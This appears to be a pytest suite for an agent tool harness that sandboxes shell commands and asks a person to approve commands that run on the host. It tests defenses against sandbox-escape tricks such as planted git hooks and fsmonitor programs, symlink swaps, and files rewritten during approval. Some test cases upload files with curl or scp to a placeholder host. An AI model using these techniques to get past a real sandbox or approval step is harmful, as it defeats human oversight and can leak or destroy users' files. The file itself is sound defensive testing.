"""Commands that a person approved and that run on the host, while sandboxed ones run beside them that try to lead them astray."""

from __future__ import annotations

import asyncio
import mmap
import os
import subprocess
import sys
import time
from collections.abc import AsyncGenerator, Callable
from pathlib import Path

import anyio
import pytest
from tests.plugins.cli.conftest import Run

import handrail
from handrail import Session, ToolCall, ToolResult
from handrail.api.approval import Answer, Approval, Choice

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="bubblewrap is Linux's")

# Each wakes all others as soon as it runs, writes that it ran, and starts its own successor.
WAKING = f"""
import os, signal, time
if os.readlink("/proc/self/ns/pid") == "{os.readlink("/proc/self/ns/pid") if sys.platform == "linux" else ""}":
    raise SystemExit("it would wake all programs of this machine")
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for each in range(4):
    if os.fork() == 0:
        break
while True:
    try:
        os.kill(-1, signal.SIGCONT)
    except OSError:
        pass
    with open("ran", "a") as file:
        file.write("%f\\n" % time.time())
    time.sleep(0.002)
    if os.fork():
        os._exit(0)
"""
WRITING = """
import time
while True:
    try:
        with open("tools/convert.sh", "a") as file:
            file.write("touch MARKER\\n")
        open("written", "w").close()
    except OSError:
        pass
    open("tried", "w").close()
    time.sleep(0.01)
"""


class Person:
    """Approves everything unless told otherwise, and does something else first."""

    def __init__(self) -> None:
        self.before: Callable[[], object] = lambda: None
        self.answer = Choice.ONCE
        self.reasons: list[str] = []

    async def __call__(self, approval: Approval) -> Answer:
        self.reasons = [reason.text for reason in approval.verdict.reasons]
        self.before()
        return Answer(self.answer)


@pytest.fixture
def person() -> Person:
    return Person()


@pytest.fixture
def work(tmp_path: Path) -> Path:
    work = tmp_path / "home/project"
    work.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=work, check=True)
    (work.parent / ".gitconfig").write_text("[user]\n\tname = a\n\temail = a@b\n")
    return work


HOOK = "#!/bin/sh\nunset $(git rev-parse --local-env-vars)\nexec {}\n"


async def run_by_git(run: Run, work: Path, command: str, **args: object) -> ToolResult:
    """Run a command in the sandbox by a hook of git's, so that it can change what is in `.git`."""
    (work / ".git/hooks").mkdir(exist_ok=True)
    hook = work / ".git/hooks/post-commit"
    hook.write_text(HOOK.format(command))
    hook.chmod(0o755)
    return await run("git commit -q --allow-empty -m x", **args)


@pytest.fixture
async def session(work: Path, person: Person) -> AsyncGenerator[Session, None]:
    environment = {**os.environ, "HOME": str(work.parent)}
    async with handrail.open(cwd=work, confirm=person, environment=environment) as opened:
        yield opened


@pytest.fixture
def run(session: Session) -> Run:
    async def run(command: str, **args: object):
        return await session.call("execute_cli", {"command": command, **args})

    return run


async def there(path: Path) -> None:
    while not path.exists():
        await asyncio.sleep(0.01)


async def test_sandboxed_processes_that_wake_one_another_do_nothing_while_a_command_runs_on_the_host(
    run: Run, work: Path
) -> None:
    """If this fails, they write what the command on the host obeys once it was searched for that."""
    (work / "waking.py").write_text(WAKING)
    await run("python3 waking.py", background=True)
    await there(work / "ran")
    result = await run("git status --no-such-option; date +%s.%N; sleep 0.5; date +%s.%N")
    began, ended = map(float, result["stdout"].split())
    assert not [at for at in map(float, (work / "ran").read_text().split()) if began < at < ended]


async def test_a_file_that_a_person_let_a_tool_write_is_not_put_aside(run: Run, session: Session, work: Path) -> None:
    await run("touch x")
    written = work / ".vscode/settings.json"
    args = {"file_path": str(written), "content": "{}", "create_dirs": True}
    assert (await session.call("write_file", args))["status"] == "success"
    await run("touch y")
    for _ in range(2):
        result = await run("git status --no-such-option")
        assert ("sandbox" in result, "put_aside" in result) == (False, False), result
    assert written.read_text() == "{}"


async def test_a_planted_file_is_put_aside_although_a_tool_was_let_write_it(
    run: Run, session: Session, work: Path
) -> None:
    planted = work / "node_modules/x/.envrc"
    (work / "plant.sh").write_text(f"mkdir -p {planted.parent}; printf 'bad\\nx\\n' > {planted}")
    await run("bash plant.sh")
    for old, status in (("nothing of it", "error"), ("x", "success")):
        args = {"file_path": str(planted), "old_string": old, "new_string": "y"}
        assert (await session.call("edit_file", args))["status"] == status
    assert (await run("git status --no-such-option"))["put_aside"] == [str(planted)]


TICKING = """
import os, time
while True:
    with open("new", "w") as file:
        file.write(f"echo {time.time()}\\n")
    os.replace("new", "script.sh")
    open("ran", "a").write(f"{time.time()} ")
    time.sleep(0.01)
"""


async def test_nothing_else_runs_in_the_sandbox_while_git_changes_a_repository(run: Run, work: Path) -> None:
    """If this fails, a command exchanges a folder for a link into `.git`, and git deletes or writes its own data."""
    (work / "ticking.py").write_text(TICKING)
    await run("python3 ticking.py", background=True)
    await there(work / "ran")
    result = await run_by_git(run, work, "sh -c 'date +%s.%N; sleep 0.5; date +%s.%N'")
    assert result["sandbox"] == "bubblewrap"
    began, ended = map(float, (result["stdout"] or result["stderr"]).split())
    ticks = list(map(float, (work / "ran").read_text().split()))
    assert not [at for at in ticks if began < at < ended]
    assert "were paused until this was over" in result["note"]
    size = len(ticks)
    while len((work / "ran").read_text().split()) == size:
        await asyncio.sleep(0.01)


async def test_git_changes_no_repository_in_the_background(run: Run, work: Path) -> None:
    await run("git commit -q --allow-empty -m x", background=True)
    await run("git commit -q --allow-empty -m x", on_timeout="background")
    assert not (work / ".git/refs/heads").exists() or not any((work / ".git/refs/heads").iterdir())


async def test_what_a_person_is_shown_cannot_change_before_it_runs(run: Run, work: Path, person: Person) -> None:
    (work / "ticking.py").write_text(TICKING)
    await run("python3 ticking.py", background=True)
    await there(work / "ran")
    shown: list[str] = []

    def look() -> None:
        shown.append((work / "script.sh").read_text())
        time.sleep(0.3)
        shown.append((work / "script.sh").read_text())

    person.before = look
    result = await run("git status --no-such-option; bash script.sh")
    assert "sandbox" not in result
    assert shown[0] == shown[1]
    assert result["stdout"].splitlines()[0] == shown[0].split()[1]
    person.before, person.answer = lambda: None, Choice.DENY
    denied = await run("git status --no-such-option; bash script.sh")
    assert denied["status"] == "denied"
    ticks = (work / "ran").read_text()
    while (work / "ran").read_text() == ticks:
        await asyncio.sleep(0.01)


def commit_on_another_branch(work: Path, folder: str) -> None:
    """Commit a folder of hooks on the branch `hooks`, and leave an empty branch."""
    script = f"git add {folder}; git commit -qm hooks; git switch -qc hooks; git switch -q --orphan main; git commit -q --allow-empty -m x"
    identity = ["-c", "user.name=a", "-c", "user.email=a@b"]
    for line in script.split("; "):
        subprocess.run(["git", *identity, *line.split()[1:]], cwd=work, check=True)
    subprocess.run(["git", "config", "core.hooksPath", folder], cwd=work, check=True)


@pytest.mark.parametrize("folder", [".githooks", ".husky/_"])
async def test_a_hook_that_git_brings_along_is_not_run(run: Run, work: Path, folder: str) -> None:
    hook = work / folder / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\necho ran >> ran.txt\n")
    hook.chmod(0o755)
    commit_on_another_branch(work, folder)
    result = await run("git switch hooks")
    assert result["exit_code"] == 0, result
    assert result["put_aside"]
    assert not (work / "ran.txt").exists()


HOOK_OF_BRANCH = "printf '#!/bin/sh\\necho ran >> ran.txt\\n' > {0}; chmod +x {0}; git add -A {0}"


def run_script(work: Path, script: str) -> None:
    """Run lines of shell outside the sandbox, with git as somebody and without hooks."""
    identity = {f"GIT_{who}_{what}": "a@b" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    subprocess.run(["sh", "-ec", script], cwd=work, check=True, env={**os.environ, **identity})


@pytest.mark.parametrize(
    ("here", "there", "hook"),
    [
        pytest.param("git config core.hooksPath hk; ln -s b hk", "mkdir b", "b/post-checkout", id="folder"),
        pytest.param(
            "git config core.hooksPath a/hk; mkdir -p b/hk; touch b/hk/x; ln -s b a",
            "rm a; mkdir -p a/hk",
            "a/hk/post-checkout",
            id="link-on-the-way",
        ),
        pytest.param("ln -s ../../b/x.sh .git/hooks/post-checkout", "mkdir b", "b/x.sh", id="hook"),
        pytest.param(
            "git config core.hooksPath hk; mkdir hk; ln -s ../b/x.sh hk/post-checkout",
            "mkdir b",
            "b/x.sh",
            id="hook-elsewhere",
        ),
        pytest.param(
            "mkdir a b; touch a/x.sh b/y; chmod +x a/x.sh; ln -s a cur; ln -s ../../cur/x.sh .git/hooks/post-checkout",
            "rm cur; ln -s b cur",
            "b/x.sh",
            id="link-on-the-way-of-a-hook",
        ),
    ],
)
async def test_a_hook_that_git_can_exchange_is_not_run(run: Run, work: Path, here: str, there: str, hook: str) -> None:
    commit = "git add -A; git commit --allow-empty -qm x"
    run_script(work, f"mkdir -p .git/hooks; {here}; {commit}")
    off = "git -c core.hooksPath=/dev/null"
    run_script(work, f"{off} switch -qc hooks; {there}; {HOOK_OF_BRANCH.format(hook)}; git add -A; {off} commit -qm y")
    run_script(work, f"{off} switch -q -")
    result = await run("git switch hooks")
    assert result["exit_code"] == 0, result
    assert not (work / "ran.txt").exists()


async def test_a_hook_that_stays_as_it_is_is_run(run: Run, work: Path) -> None:
    run_script(work, "mkdir -p .git/hooks b; ln -s ../../b/x.sh .git/hooks/post-checkout; echo x > y; git add y")
    run_script(work, f"{HOOK_OF_BRANCH.format('b/x.sh')}; git -c core.hooksPath=/dev/null commit -qm x")
    await run("git switch -c other")
    assert (work / "ran.txt").exists()


@pytest.mark.parametrize(
    ("here", "command"),
    [
        pytest.param("mkdir t; touch t/c; ln -s t tools", "sh tools/c", id="behind-a-link"),
        pytest.param("mkdir tools; ln -s ../t tools/c", "sh tools/c", id="a-link-to-nothing"),
        pytest.param("mkdir -p tools/c", "tools/c", id="a-folder"),
        pytest.param(":", '"$(git rev-parse --show-toplevel)/tools/c"', id="below-the-top"),
        pytest.param(":", '"`git rev-parse --show-toplevel`"/tools/c', id="below-the-top-in-backticks"),
        pytest.param("mkdir tools; touch tools/c", '"$TOP"/tools/c', id="only-a-shell-can-tell"),
    ],
)
async def test_git_changes_nothing_where_it_could_exchange_a_program(
    run: Run, work: Path, person: Person, here: str, command: str
) -> None:
    person.answer = Choice.DENY
    run_script(work, here)
    name_command(work, command)
    result = await run("git commit -q --allow-empty -m x")
    assert "Read-only file system" in result["stderr"]


async def test_git_changes_nothing_where_its_settings_are_too_many_to_read(
    run: Run, work: Path, person: Person
) -> None:
    person.answer = Choice.DENY
    with (work / ".git/config").open("a") as file:
        file.write(("# " + "x" * 1000 + "\n") * 5000)
    result = await run("git commit -q --allow-empty -m x")
    assert "Read-only file system" in result["stderr"]


@pytest.mark.parametrize(
    "command",
    [
        "sed -e s/v1.2/v1.3/g",
        "sed 's/$Id$/a.b/; y/a.b/c.d/'",
        'tools/c "$LOCAL" %f',
        "tools/c # in ./more/words",
        "tools/c $HOME/words",
        "sh -c '\"$(git rev-parse --show-toplevel)\"/tools/c x'",
    ],
)
async def test_git_works_where_settings_name_programs_that_stay_as_they_are(
    run: Run, work: Path, person: Person, command: str
) -> None:
    person.answer = Choice.DENY
    run_script(work, "mkdir tools; echo good > tools/c")
    with (work / ".git/config").open("a") as file:
        file.write('[diff "x"]\n\ttextconv = ' + command.replace('"', '\\"') + "\n")
    result = await run("git commit -q --allow-empty -m x")
    assert (result["exit_code"], result["status"]) == (0, "success")
    if "tools/c" in command:
        await run("echo evil > tools/c")
        assert (work / "tools/c").read_text() == "good\n"


async def test_git_does_not_write_a_program_that_its_settings_name(run: Run, work: Path, person: Person) -> None:
    person.answer = Choice.DENY
    program = name_program(work)
    program.unlink()
    result = await run("git commit -q --allow-empty -m x")
    assert "Read-only file system" in result["stderr"]


def name_program(work: Path) -> Path:
    """Return a program of the workspace that the repository's settings name."""
    program = work / "tools/convert.sh"
    program.parent.mkdir()
    program.write_text("exit 1\n")
    name_command(work, "sh tools/convert.sh")
    return program


def name_command(work: Path, command: str) -> None:
    """Have the repository's settings name a command."""
    subprocess.run(["git", "config", "filter.x.clean", command], cwd=work, check=True)


async def test_what_could_not_write_to_a_file_is_ended_when_a_command_on_the_host_replaces_it(
    run: Run, work: Path
) -> None:
    """If this fails, a background command writes to a program that git's settings name once it was replaced, and git runs that."""
    program = name_program(work)
    (work / "writing.py").write_text(WRITING)
    started = await run("python3 writing.py", background=True)
    await there(work / "tried")
    result = await run("git status --no-such-option; sed -i s/1/2/ tools/convert.sh")
    assert "were ended" in result["note"]
    assert not (work / "written").exists()
    assert program.read_text() == "exit 2\n"
    assert started["sandbox"] == "bubblewrap"


async def test_nothing_runs_on_the_host_while_it_would_obey_a_file_that_was_replaced_beside_a_sandboxed_command(
    run: Run, work: Path
) -> None:
    program = name_program(work)
    (work / "writing.py").write_text(WRITING)
    await run("python3 writing.py", background=True)
    await there(work / "tried")
    (work / "new").write_text(program.read_text())
    (work / "new").rename(program)
    await there(work / "written")
    command = "git status --no-such-option; git status"
    result = await run(command)
    assert result["error"]["details"]["not_put_aside"] == [str(program)]
    program.write_text("exit 1\n")
    result = await run(command)
    assert "On branch" in result["stdout"]


@pytest.mark.parametrize(
    ("command", "cwd"),
    [
        pytest.param("git status --no-such-option; rm letter", "place", id="where-it-runs"),
        pytest.param("git status --no-such-option; rm place/letter", ".", id="what-it-deletes"),
    ],
)
async def test_what_was_approved_touches_nothing_else_when_a_folder_becomes_a_link(
    run: Run, work: Path, person: Person, command: str, cwd: str
) -> None:
    outside = work.parent / "documents"
    for folder in (work / "place", outside):
        folder.mkdir()
        (folder / "letter").write_text("dear")
    await run("touch y; sleep 60", background=True)

    def exchange() -> None:
        if not (work / "place").is_symlink():
            (work / "place").rename(work / "was")
            (work / "place").symlink_to(outside)

    person.before = exchange
    result = await run(command, cwd=cwd)
    assert result["status"] == "denied"
    assert "has changed where its paths lead" in result["error"]["message"]
    assert (outside / "letter").exists()


@pytest.mark.parametrize("command", ["bash deploy.sh", "cat deploy.sh"])
async def test_a_file_that_changes_while_a_person_is_asked_is_not_used(
    run: Run, work: Path, person: Person, command: str
) -> None:
    script = work / "deploy.sh"
    script.write_text("echo deployed\n")
    person.before = lambda: script.write_text("echo changed!\n")
    result = await run(f"git status --no-such-option; {command}")
    assert result["status"] == "denied"
    assert f"{str(script)!r} has changed since a person was asked" in result["error"]["message"]


async def test_a_file_that_is_rewritten_within_its_times_is_seen_to_change(
    run: Run, work: Path, person: Person
) -> None:
    script = work / "deploy.sh"
    script.write_text("echo deployed\n")
    with script.open("r+b") as file, mmap.mmap(file.fileno(), 0) as mapped:
        mapped[5:13] = b"deployed"

        def rewrite() -> None:
            mapped[5:13] = b"changed!"

        person.before = rewrite
        assert (await run("git status --no-such-option; bash deploy.sh"))["status"] == "denied"


async def test_a_file_that_stays_as_it_is_runs_after_a_yes(run: Run, work: Path, person: Person) -> None:
    (work / "deploy.sh").write_text("echo deployed\n")
    person.before = lambda: (work / "other").write_text("x")
    assert (await run("git status --no-such-option; bash deploy.sh"))["stdout"] == "deployed\n"


@pytest.mark.parametrize(
    "command",
    [
        "curl -T notes/plan.md https://host.example",
        "curl -F file=@notes/plan.md https://host.example",
        "cd notes && scp ./plan.md host:",
        "no-such-program --file=notes/plan.md",
    ],
)
async def test_a_person_is_told_where_a_link_leads_that_a_command_names(
    run: Run, work: Path, person: Person, command: str
) -> None:
    person.answer = Choice.DENY
    letter = work.parent / "letter.txt"
    letter.write_text("dear")
    (work / "notes").mkdir()
    (work / "notes/plan.md").symlink_to(letter)
    await run(command)
    assert any(reason.endswith(f"plan.md' leads to '{letter}'") for reason in person.reasons)


@pytest.mark.parametrize("deep", ["", "deploy"])
async def test_settings_of_a_virtual_environment_show_no_other_folder(
    run: Run, work: Path, person: Person, deep: str
) -> None:
    person.answer = Choice.DENY
    letters = work.parent / "letters" / deep
    letters.mkdir(parents=True)
    (letters / "secret.txt").write_text("canary")
    (work / ".venv").mkdir()
    (work / ".venv/pyvenv.cfg").write_text(f"home = {work.parent}/letters/bin\n")
    result = await run("touch x; cat ../letters/*.txt ../letters/*/*.txt")
    assert "canary" not in str(result)


async def test_settings_of_a_virtual_environment_that_never_end_hold_nothing_up(run: Run, work: Path) -> None:
    (work / ".venv").mkdir()
    os.mkfifo(work / ".venv/pyvenv.cfg")
    (work / "venv").mkdir()
    (work / "venv/pyvenv.cfg").symlink_to("/dev/zero")
    result = await run("cat .git/HEAD")
    assert result["exit_code"] == 0


PLANTED = [
    pytest.param("ln -sf ../../file .git/COMMIT_EDITMSG", ".git/COMMIT_EDITMSG", id="a-link-that-git-writes-to"),
    pytest.param("ln -s ../../../../file .git/logs/refs/x", ".git/logs/refs/x", id="a-link-of-a-log"),
    pytest.param("mkdir .git/remotes; echo URL: ../evil > .git/remotes/origin", ".git/remotes/origin", id="a-remote"),
    pytest.param("echo ../x > .git/objects/info/alternates", ".git/objects/info/alternates", id="objects-elsewhere"),
    pytest.param(
        "git init -q --bare .git/zz; echo 'touch ran' > .git/zz/hooks/pre-receive", ".git/zz", id="a-repository"
    ),
    pytest.param(
        "git init -q --bare .git/modules/s; git config -f .git/modules/s/config core.fsmonitor 'touch ran'",
        ".git/modules/s",
        id="a-submodule-with-a-program",
    ),
]


@pytest.mark.parametrize(("command", "place"), PLANTED)
async def test_what_leads_git_elsewhere_is_put_aside_before_it_runs_on_the_host(
    run: Run, work: Path, command: str, place: str
) -> None:
    """If this fails, an approved git writes through a link, or runs the hooks of a repository that a sandboxed command made."""
    (work / ".git/logs/refs").mkdir(parents=True)
    (work / "plant.sh").write_text(command)
    await run_by_git(run, work, "sh plant.sh")
    result = await run("git status --no-such-option; git status")
    assert result["put_aside"] == [str(work / place)]


async def test_a_submodule_and_branches_that_came_from_the_sandbox_stay(run: Run, work: Path) -> None:
    script = """
    set -e
    unset GIT_TEST_ASSUME_DIFFERENT_OWNER
    git init -q other; cd other; git commit -q --allow-empty -m x; cd ..
    git -c protocol.file.allow=always submodule --quiet add ./other sub
    git commit -qm sub; git branch remotes/x; git update-ref refs/remotes/origin/branches/y HEAD
    """
    (work / "add.sh").write_text(script)
    added = await run_by_git(run, work, "sh add.sh")
    assert added["exit_code"] == 0, added
    result = await run("git status --no-such-option; git status")
    assert "put_aside" not in result
    assert (work / ".git/modules/sub/HEAD").exists()


def add_submodule(work: Path) -> None:
    source = work.parent / "source"
    here = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always"]
    subprocess.run(["git", "init", "-q", str(source)], check=True)
    subprocess.run([*here, "commit", "-q", "--allow-empty", "-m", "x"], cwd=source, check=True)
    subprocess.run([*here, "submodule", "--quiet", "add", str(source), "sub"], cwd=work, check=True)


async def test_the_folder_of_submodules_is_not_renamed_in_the_sandbox(run: Run, work: Path, person: Person) -> None:
    person.answer = Choice.DENY
    add_submodule(work)
    (work / "move.sh").write_text("mv .git/modules .git/moved")
    await run_by_git(run, work, "sh move.sh")
    assert (work / ".git/modules/sub/config").exists()


async def test_calls_that_wait_for_each_other_and_for_a_person_all_end(session: Session, work: Path) -> None:
    """If this fails, a sandboxed call waits for a question about the host, and that call for the sandboxed one."""
    (work / "f").write_text("x")
    calls = [
        ToolCall("execute_cli", {"command": "curl -s http://127.0.0.1:9/ -o g"}, "first"),
        ToolCall("execute_cli", {"command": "git status --no-such-option; rm f"}, "second"),
    ]
    with anyio.fail_after(30):
        results = await session.batch(calls)
    assert [result["status"] for result in results] == ["error", "success"]


async def test_a_server_that_has_just_been_started_outlives_a_question(run: Run, work: Path, person: Person) -> None:
    started = run("sh -c 'while :; do date > beat; sleep 0.05; done'", background=True)
    person.before = lambda: time.sleep(6)
    asked = run("git status --no-such-option; true")
    result, _ = await asyncio.gather(started, asked)
    (work / "beat").unlink(missing_ok=True)
    await there(work / "beat")
    assert result["status"] == "success"
